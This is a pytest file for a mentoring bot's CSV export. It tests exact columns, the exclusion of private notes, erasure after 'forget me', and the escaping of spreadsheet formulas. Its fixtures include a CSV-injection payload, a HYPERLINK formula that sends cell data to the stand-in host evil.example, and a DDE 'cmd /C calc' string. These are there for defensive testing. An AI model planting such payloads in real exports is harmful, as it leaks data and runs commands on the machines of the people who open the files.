"""The coordinators' CSV export, built from known data on SQLite and Postgres: the exact columns
and cells, never a private note, nothing about a forgotten person, no formula a spreadsheet
would run."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy.orm import Session, sessionmaker

from bot.services import sessions as session_rules
from bot.services.agreements import (
    agreement_form,
    membership_of,
    pair_goals,
    save_agreement,
    set_goal_status,
)
from bot.services.checkins import CheckInInput, record_outcome
from bot.services.enrollment import save_profile
from bot.services.errors import DomainError
from bot.services.exports import (
    PAIRS_FILE,
    PARTICIPANTS_FILE,
    SESSIONS_FILE,
    ProgramExport,
    export_program,
    spreadsheet_safe,
)
from bot.services.participation import forget, leave, pause
from bot.services.programs import ProgramInput, create_program, find_program
from bot.services.surveys import SurveyInput, save_response
from models import Pair, Participant
from models.enums import CheckInOutcome, GoalStatus, Role, SurveyKind
from tests.pairs import MENTEE, MENTEE_USER, MENTOR_USER, SeededPair, seed_pair
from tests.test_enrollment import MENTOR, TEAM
from tests.test_goals import MENTEE_GOALS, MENTOR_GOALS

JOINED = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
BOOKED = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
FIRST = datetime(2026, 11, 3, 15, 0, tzinfo=UTC)
HELD = datetime(2026, 11, 10, 15, 0, tzinfo=UTC)
CANCELLED = datetime(2026, 11, 17, 15, 0, tzinfo=UTC)
UPCOMING = datetime(2026, 12, 1, 15, 0, tzinfo=UTC)
EXPORT_AT = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)

CAROL, DAN = "U0CAROL", "U0DAN"
# What people typed that a spreadsheet would run as a formula.
HOSTILE_DEPARTMENT = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
HOSTILE_LOCATION = "@SUM(1+1)*cmd|' /C calc'!A0"
CANCEL_REASON = "-1 Off sick, sorry"

MENTOR_NOTE = "MENTOR-PRIVATE: he seemed bored"
MENTEE_NOTE = "MENTEE-PRIVATE: I felt out of my depth"
FIRST_NOTE = "MENTEE-PRIVATE: too shy to ask anything"
LEARNED = "LEARNED-TEXT prompt chains"
FOLLOW_UP = "FOLLOW-UP-TEXT share the deck"
REASONS = [
    "Analyst can teach Generative AI, which Director wants to learn",
    "bridges Marketing and Finance",
]

PARTICIPANT_HEADER = [
    "slack_user_id",
    "role",
    "department",
    "location",
    "career_stage",
    "cadence",
    "status",
    "joined_at",
    "teach_topics",
    "learn_topics_self_rating",
    "latest_survey_ratings",
    "paired",
]
PAIR_HEADER = [
    "pair_id",
    "mentor_user_id",
    "mentee_user_id",
    "status",
    "score",
    "reasons",
    "created_at",
    "introduced_at",
    "at_risk_since",
    "at_risk_reason",
    "ended_at",
    "ended_reason",
    "sessions_held",
    "cancelled_by_mentor",
    "cancelled_by_mentee",
    "cancelled_side_not_said",
    "sessions_missed",
    "sessions_upcoming",
    "goals_achieved",
    "goals_open",
    "goals_dropped",
    "agreement_confirmed",
]
SESSION_HEADER = [
    "session_id",
    "pair_id",
    "starts_at",
    "minutes",
    "status",
    "cancelled_by",
    "cancel_reason",
    "mentor_rating",
    "mentee_rating",
    "topics_covered",
    "follow_up_posted",
]


class Seeded:
    """The seeded program's ids, for the expected rows."""

    def __init__(self, pair: SeededPair, sessions: tuple[int, int, int, int]) -> None:
        self.pair = pair
        self.first, self.held, self.cancelled, self.upcoming = sessions


def _enrol(session_factory: sessionmaker[Session], user: str, **changes: object) -> None:
    with session_factory.begin() as db_session:
        save_profile(
            db_session,
            team_id=TEAM,
            user_id=user,
            profile=replace(MENTOR, do_not_match=[], **changes),  # type: ignore[arg-type]
            timezone="Europe/Lisbon",
            now=JOINED,
        )


def _book(session_factory: sessionmaker[Session], pair: SeededPair, starts: datetime) -> int:
    with session_factory.begin() as db_session:
        found = session_rules.pair_for(db_session, pair_id=pair.pair_id, user_id=MENTOR_USER)
        return session_rules.schedule(
            db_session,
            pair=found,
            user_id=MENTOR_USER,
            starts_at=starts,
            minutes=45,
            agenda="AGENDA-TEXT",
            now=BOOKED,
        ).id


def _check_in(
    session_factory: sessionmaker[Session], session_id: int, user: str, values: CheckInInput
) -> None:
    with session_factory.begin() as db_session:
        session = session_rules.session_for(db_session, session_id=session_id, user_id=user)
        record_outcome(
            db_session,
            session=session,
            user_id=user,
            outcome=CheckInOutcome.HAPPENED,
            now=HELD + timedelta(hours=1),
            values=values,
        )


def _agree(session_factory: sessionmaker[Session], pair: SeededPair) -> None:
    for user, values in ((MENTEE_USER, MENTEE_GOALS), (MENTOR_USER, MENTOR_GOALS)):
        with session_factory.begin() as db_session:
            membership = membership_of(
                db_session, team_id=TEAM, user_id=user, pair_id=pair.pair_id, lock=True
            )
            form = agreement_form(db_session, membership=membership)
            save_agreement(
                db_session, membership=membership, values=values, goal_ids=form.goal_ids, now=BOOKED
            )
    with session_factory.begin() as db_session:
        first, second, _third = pair_goals(db_session, pair_id=pair.pair_id)
        for goal, status in ((first, GoalStatus.ACHIEVED), (second, GoalStatus.DROPPED)):
            set_goal_status(
                db_session,
                team_id=TEAM,
                user_id=MENTEE_USER,
                goal_id=goal.id,
                status=status,
                now=HELD + timedelta(days=1),
            )


def _survey(session_factory: sessionmaker[Session], pair: SeededPair) -> None:
    answers = (
        (SurveyKind.MIDPOINT, {"generative_ai": 3, "social_media": 4}, HELD),
        (SurveyKind.FINAL, {"generative_ai": 4, "social_media": 4}, HELD + timedelta(days=5)),
    )
    for kind, ratings, at in answers:
        with session_factory.begin() as db_session:
            pair_row = db_session.get(Pair, pair.pair_id)
            person = db_session.get(Participant, pair.mentee_participant_id)
            assert pair_row is not None and person is not None
            save_response(
                db_session,
                pair=pair_row,
                person=person,
                kind=kind,
                values=SurveyInput(effectiveness=4, would_recommend=True, ratings=ratings),
                now=at,
            )


@pytest.fixture
def program(session_factory: sessionmaker[Session]) -> Seeded:
    return seed_program(session_factory)


def seed_program(session_factory: sessionmaker[Session]) -> Seeded:
    """A pair with two sessions held (at the first only the mentee checked in, with a private
    note and no follow-up; both at the second), one cancelled by the mentee, one to come;
    goals agreed, one achieved and one dropped; the mentee surveyed twice. Beside them, Carol
    (paused, unpaired, typed formulas into her profile) and Dan (left)."""
    pair = seed_pair(session_factory, now=JOINED)
    with session_factory.begin() as db_session:
        row = db_session.get(Pair, pair.pair_id)
        assert row is not None
        row.score, row.reasons = 0.87, REASONS  # as matching records them
    _enrol(session_factory, CAROL, department=HOSTILE_DEPARTMENT, location=HOSTILE_LOCATION)
    _enrol(session_factory, DAN, role=Role.BOTH, department="Sales")
    with session_factory.begin() as db_session:
        pause(db_session, team_id=TEAM, user_id=CAROL, weeks=2, now=EXPORT_AT - timedelta(days=1))
        leave(db_session, team_id=TEAM, user_id=DAN, now=EXPORT_AT - timedelta(days=2))

    first = _book(session_factory, pair, FIRST)
    held = _book(session_factory, pair, HELD)
    cancelled = _book(session_factory, pair, CANCELLED)
    upcoming = _book(session_factory, pair, UPCOMING)
    _check_in(session_factory, first, MENTEE_USER, CheckInInput(rating=3, private_note=FIRST_NOTE))
    _check_in(
        session_factory,
        held,
        MENTOR_USER,
        CheckInInput(rating=5, topics=["generative_ai"], learned=LEARNED, private_note=MENTOR_NOTE),
    )
    _check_in(
        session_factory,
        held,
        MENTEE_USER,
        CheckInInput(
            rating=4,
            topics=["social_media", "generative_ai"],
            learned=LEARNED,
            private_note=MENTEE_NOTE,
            follow_up=FOLLOW_UP,
        ),
    )
    with session_factory.begin() as db_session:
        session = session_rules.session_for(db_session, session_id=cancelled, user_id=MENTEE_USER)
        session_rules.cancel(
            db_session,
            session=session,
            user_id=MENTEE_USER,
            reason=CANCEL_REASON,
            now=CANCELLED - timedelta(days=1),
        )
    _agree(session_factory, pair)
    _survey(session_factory, pair)
    return Seeded(pair, (first, held, cancelled, upcoming))


def export(session_factory: sessionmaker[Session], program_id: int) -> ProgramExport:
    with session_factory.begin() as db_session:
        return export_program(db_session, program_id=program_id, now=EXPORT_AT)


def table(result: ProgramExport, name: str) -> list[list[str]]:
    """The file as a spreadsheet would read it: header row first."""
    return list(csv.reader(io.StringIO(result.files[name], newline="")))


def everything(result: ProgramExport) -> str:
    return "\n".join(result.files.values()) + "\n".join(
        b.decode("utf-8-sig") for b in result.encoded().values()
    )


# -- the three files ------------------------------------------------------------------------------


def test_participants_csv_has_one_row_per_person_with_profile_topics_and_re_ratings(
    session_factory: sessionmaker[Session], program: Seeded
) -> None:
    result = export(session_factory, program.pair.program_id)
    [header, *rows] = table(result, PARTICIPANTS_FILE)
    assert header == PARTICIPANT_HEADER
    joined = "2026-11-01T09:00:00+00:00"
    assert rows == [
        [MENTOR_USER, "mentor", "Marketing", "Lisbon", "0-2", "biweekly", "active", joined,
         "social_media; generative_ai", "leadership:2", "", "yes"],
        [MENTEE_USER, "mentee", "Finance", "Lisbon", "11-20", "biweekly", "active", joined,
         "leadership", "generative_ai:1; social_media:2", "generative_ai:4; social_media:4",
         "yes"],
        [CAROL, "mentor", "'" + HOSTILE_DEPARTMENT, "'" + HOSTILE_LOCATION, "0-2", "biweekly",
         "paused", joined, "social_media; generative_ai", "leadership:2", "", "no"],
        [DAN, "both", "Sales", "Lisbon", "0-2", "biweekly", "left", joined,
         "social_media; generative_ai", "leadership:2", "", "no"],
    ]  # fmt: skip
    assert result.rows[PARTICIPANTS_FILE] == 4


def test_pairs_csv_counts_sessions_by_outcome_and_goals_by_status(
    session_factory: sessionmaker[Session], program: Seeded
) -> None:
    result = export(session_factory, program.pair.program_id)
    [header, *rows] = table(result, PAIRS_FILE)
    assert header == PAIR_HEADER
    assert rows == [
        [str(program.pair.pair_id), MENTOR_USER, MENTEE_USER, "active", "0.87",
         "; ".join(REASONS), "2026-11-01T09:00:00+00:00", "2026-11-01T09:00:00+00:00", "", "",
         "", "",
         # held, cancelled by mentor / mentee / side not said, missed, upcoming
         "2", "0", "1", "0", "0", "1",
         # goals achieved, open, dropped; ground rules confirmed by both
         "1", "1", "1", "yes"],
    ]  # fmt: skip
    assert result.rows[PAIRS_FILE] == 1


def test_sessions_csv_has_ratings_by_side_and_topics_but_never_what_anyone_wrote(
    session_factory: sessionmaker[Session], program: Seeded
) -> None:
    result = export(session_factory, program.pair.program_id)
    [header, *rows] = table(result, SESSIONS_FILE)
    assert header == SESSION_HEADER
    pair = str(program.pair.pair_id)
    assert rows == [
        [str(program.first), pair, "2026-11-03T15:00:00+00:00", "45", "happened", "", "",
         "", "3", "", "no"],
        [str(program.held), pair, "2026-11-10T15:00:00+00:00", "45", "happened", "", "",
         "5", "4", "generative_ai; social_media", "yes"],
        [str(program.cancelled), pair, "2026-11-17T15:00:00+00:00", "45", "cancelled",
         "mentee", "'" + CANCEL_REASON, "", "", "", "no"],
        [str(program.upcoming), pair, "2026-12-01T15:00:00+00:00", "45", "scheduled", "", "",
         "", "", "", "no"],
    ]  # fmt: skip
    assert result.rows == {PARTICIPANTS_FILE: 4, PAIRS_FILE: 1, SESSIONS_FILE: 4}


def test_no_private_note_nor_other_free_text_is_in_any_file(
    session_factory: sessionmaker[Session], program: Seeded
) -> None:
    text = everything(export(session_factory, program.pair.program_id))
    for secret in (
        MENTOR_NOTE,
        MENTEE_NOTE,
        FIRST_NOTE,
        "PRIVATE",
        LEARNED,
        FOLLOW_UP,
        "AGENDA-TEXT",
    ):
        assert secret not in text
    # The goals' own words stay in the pair's DM too.
    for goal in (*MENTEE_GOALS.goals, *MENTOR_GOALS.goals):
        assert goal.text not in text


def test_files_are_utf8_with_a_byte_order_mark_and_spreadsheet_line_ends(
    session_factory: sessionmaker[Session], program: Seeded
) -> None:
    files = export(session_factory, program.pair.program_id).encoded()
    assert sorted(files) == sorted([PARTICIPANTS_FILE, PAIRS_FILE, SESSIONS_FILE])
    for content in files.values():
        assert content.startswith(b"\xef\xbb\xbf")
        assert content.endswith(b"\r\n")


# -- forgotten people -----------------------------------------------------------------------------


def test_after_forget_me_nothing_about_that_person_is_exported(
    session_factory: sessionmaker[Session], program: Seeded
) -> None:
    with session_factory.begin() as db_session:
        forget(db_session, team_id=TEAM, user_id=MENTEE_USER, now=EXPORT_AT - timedelta(hours=1))
    result = export(session_factory, program.pair.program_id)
    text = everything(result)
    assert MENTEE_USER not in text
    # Their profile (the only one in Finance), their re-ratings, their rating of the session and
    # the reason they gave for cancelling go; so do the matching reasons that described them.
    for trace in ("Finance", "11-20", "generative_ai:1", "generative_ai:4", CANCEL_REASON,
                  "bridges"):  # fmt: skip
        assert trace not in text

    participants = table(result, PARTICIPANTS_FILE)[1:]
    assert [row[0] for row in participants] == [MENTOR_USER, CAROL, DAN]
    [pair] = table(result, PAIRS_FILE)[1:]
    assert pair[1:4] == [MENTOR_USER, "", "ended"]  # their side blank, not guessed
    assert pair[5] == ""  # no reasons
    assert pair[11] == "mentee left"
    first, held, cancelled, _upcoming = table(result, SESSIONS_FILE)[1:]
    assert first[7:9] == ["", ""]
    assert held[7:9] == ["5", ""]  # the mentor's rating stays, the mentee's went with them
    assert held[9] == "generative_ai"
    assert cancelled[5:7] == ["mentee", ""]  # the count stays; their words go


# -- formulas -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")']
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(typed: str) -> None:
    assert spreadsheet_safe(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Marketing", "1+1", "a=b", "", " =1", "'=1", "São Paulo"])
def test_ordinary_text_is_left_alone(typed: str) -> None:
    assert spreadsheet_safe(typed) == typed


def test_no_exported_cell_starts_like_a_formula(
    session_factory: sessionmaker[Session], program: Seeded
) -> None:
    result = export(session_factory, program.pair.program_id)
    for name in result.files:
        for row in table(result, name):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


# -- which program --------------------------------------------------------------------------------


def test_the_open_program_is_exported_by_default_and_others_by_name_or_id(
    session_factory: sessionmaker[Session], program: Seeded
) -> None:
    with session_factory.begin() as db_session:
        first = find_program(db_session, team_id=TEAM, name="")
        assert first.id == program.pair.program_id
        first_name = first.name
        newer, _closed = create_program(
            db_session, team_id=TEAM, values=ProgramInput(name="Spring cohort"), now=EXPORT_AT
        )
        newer_id = newer.id
    with session_factory.begin() as db_session:
        save_profile(
            db_session, team_id=TEAM, user_id="U0ERIN", profile=MENTEE, timezone=None, now=EXPORT_AT
        )
    with session_factory.begin() as db_session:
        assert find_program(db_session, team_id=TEAM, name="").id == newer_id
        assert find_program(db_session, team_id=TEAM, name=f'"{first_name.upper()}"').id == (
            program.pair.program_id
        )
        assert find_program(db_session, team_id=TEAM, name=str(newer_id)).id == newer_id
        with pytest.raises(DomainError, match="no program"):
            find_program(db_session, team_id=TEAM, name="Autumn cohort")
        with pytest.raises(DomainError, match="no program"):
            find_program(db_session, team_id="T0OTHER", name=str(newer_id))

    # Each program's files hold its own people only.
    spring = export(session_factory, newer_id)
    assert [row[0] for row in table(spring, PARTICIPANTS_FILE)[1:]] == ["U0ERIN"]
    assert spring.rows == {PARTICIPANTS_FILE: 1, PAIRS_FILE: 0, SESSIONS_FILE: 0}
    assert table(spring, PAIRS_FILE) == [PAIR_HEADER]
    earlier = export(session_factory, program.pair.program_id)
    assert "U0ERIN" not in everything(earlier)


def test_a_workspace_without_programs_has_nothing_to_export(db_session: Session) -> None:
    with pytest.raises(DomainError, match="no program yet"):
        find_program(db_session, team_id=TEAM, name="")
